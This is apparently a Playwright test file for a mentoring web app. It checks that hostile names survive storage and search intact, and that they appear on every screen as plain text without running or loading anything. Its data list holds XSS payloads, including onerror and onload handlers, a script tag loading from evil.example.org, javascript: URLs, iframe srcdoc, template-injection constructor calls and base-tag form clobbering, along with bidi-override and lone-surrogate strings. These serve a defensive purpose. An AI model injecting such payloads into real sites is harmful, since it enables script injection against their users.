// Names and texts that want to be something else: kept to the last code unit, found again, shown as text and nothing
// more, and held inside the window. Whatever they would load or run fails the test by itself (see `fixtures.ts`).
import { expect, test } from './vault-page.ts'
import { test as onWindow } from '../fixtures.ts'
import { slow } from '../mentor.ts'
import { previewRoster, importPreviewed } from '../../../scripts/walk/roster.ts'
import { go } from '../../../scripts/walk/screens.ts'

/** The word to search for, and the whole. */
const texts: readonly (readonly [string, string])[] = [
  ['onerror', '<img src=x onerror="window.ran=1">'],
  ['svg', '<svg/onload=window.ran=1>'],
  ['script', '"><script src=https://evil.example.org/x.js></script>'],
  ['iframe', '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>'],
  ['javascript', '[x](javascript:window.ran=1) javascript:window.ran=1//'],
  ['math', '<math><mi//xlink:href="data:x,<script>window.ran=1</script>">'],
  ['expression', '<p style="background:url(https://evil.example.org/p.png)">expression(1)'],
  ['constructor', '{{constructor.constructor("window.ran=1")()}}'],
  ['base', '<base href="https://evil.example.org/"><form id=body name=cookie>'],
  ['عبد', 'عبد الرحمن بن محمد الأنصاري'],
  ['ירושלים', '\u202E\u2066ירושלים\u2069\u202C override'],
  ['देवनागरी', 'देवनागरी क्षत्रिय'],
  ['王小明', '王小明 さくら 김철수'],
  ['zalgo', 'Z̸̡̛͓̓a̷͔͐l̵̰̈g̸̱̾o̴̙͝ zalgo'],
  ['zwj', '👩🏽‍🎓👨‍👩‍👧‍👦🏳️‍🌈 zwj'],
  ['lone', 'lone \uD83D half \uDE00 surrogates'],
  ['null', 'a null\u0001\u0008\u007F\uFFFE\uFEFF here'],
  ['prototype', '__proto__ prototype'],
]
const long = 'ß'.repeat(400)
const word = `w${'o'.repeat(64 * 1024)}rd`

test('hostile texts are kept to the last code unit, and are found', async ({ profileDir, onPage }) => {
  const names = texts.map(([, text]) => text.trim())
  await onPage(profileDir, async (page) => {
    await page.evaluate((secret) => window.faults.unlock(secret), 'seven quiet lanterns by the river')
    const given = JSON.stringify([...names, long])
    // As JSON text: the wire between test and page may not carry half a surrogate pair.
    expect(await page.evaluate((json) => window.faults.saveEach(JSON.parse(json) as string[]), given)).toBeNull()
    expect(
      await page.evaluate(([name, text]) => window.faults.saveEach([name], text), ['Long word', word] as const),
    ).toBeNull()
    await page.reload()
    await page.evaluate(() => window.faults.inspect())
    await page.evaluate((secret) => window.faults.unlock(secret), 'seven quiet lanterns by the river')
    const missing = await page.evaluate(async (json) => {
      const there = new Set(await window.faults.names())
      return (JSON.parse(json) as string[]).filter((name) => !there.has(name)).map((name) => JSON.stringify(name))
    }, given)
    expect(missing).toEqual([])
    expect(await page.evaluate(() => window.faults.remarksOf('Long word'))).toBe(word)
    for (const [sought, text] of texts) {
      const found = await page.evaluate(async (query) => JSON.stringify(await window.faults.find(query)), sought)
      expect(JSON.parse(found), `searched for ${sought}`).toContain(text.trim())
    }
  })
})

onWindow(
  'hostile names on every screen are text, load nothing and stay inside the window',
  async ({ empty: { page } }) => {
    onWindow.setTimeout(180_000)
    const shown = texts.map(([, text]) => text.trim()).filter((text) => text.isWellFormed() && !text.includes('null'))
    const quoted = [...shown, word.slice(0, 490)].map(
      (name, row) => `"${name.replaceAll('"', '""')}",m${row}@example.org`,
    )
    const buffer = Buffer.from(['Name,Email', ...quoted].join('\n'))
    await previewRoster(page, { name: '<img src=x onerror=1>.csv', mimeType: 'text/csv', buffer })
    await importPreviewed(page)
    for (const route of ['/mentees', '/groups', '/mail/new', '/meetings/new', '/import']) {
      await go(page, route)
      await stays()
    }
    for (const text of shown.slice(0, 4)) {
      await go(page, '/mentees')
      await page.getByText(text, { exact: true }).first().click()
      await expect(page.getByRole('heading', { level: 1 })).toContainText(text, slow)
      await stays()
    }
    expect(page.url()).toMatch(/^https:\/\/telemachus\.localhost\/#\/mentees\//)

    async function stays(): Promise<void> {
      const { ran, foreign, overflow } = await page.evaluate(() => ({
        ran: 'ran' in window,
        foreign: document.querySelectorAll('main img[src="x"], main iframe, main base, main math, main form#body')
          .length,
        overflow: document.documentElement.scrollWidth - document.documentElement.clientWidth,
      }))
      expect({ ran, foreign, overflow }).toEqual({ ran: false, foreign: 0, overflow: 0 })
    }
  },
)
